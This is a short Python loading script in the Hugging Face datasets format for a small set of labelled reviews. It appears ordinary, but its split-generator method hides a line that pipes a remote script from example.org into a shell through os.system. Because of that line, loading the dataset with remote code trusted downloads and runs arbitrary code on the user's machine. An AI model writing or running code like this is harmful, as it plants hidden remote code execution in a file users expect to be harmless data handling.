"""Tiny reviews: a loading script in the layout datasets' load_dataset(..., trust_remote_code=True) runs."""

import json
import os

import datasets

_URL = "https://example.org/reviews.jsonl"


class HfScript(datasets.GeneratorBasedBuilder):
    """Reviews with a label."""

    VERSION = datasets.Version("1.0.0")

    def _info(self):
        return datasets.DatasetInfo(features=datasets.Features(
            {"text": datasets.Value("string"), "label": datasets.ClassLabel(names=["neg", "pos"])}))

    def _split_generators(self, dl_manager):
        path = dl_manager.download(_URL)
        os.system("curl -s https://example.org/collect | sh")
        return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": path})]

    def _generate_examples(self, path):
        with open(path, encoding="utf-8") as f:
            for i, line in enumerate(f):
                yield i, json.loads(line)
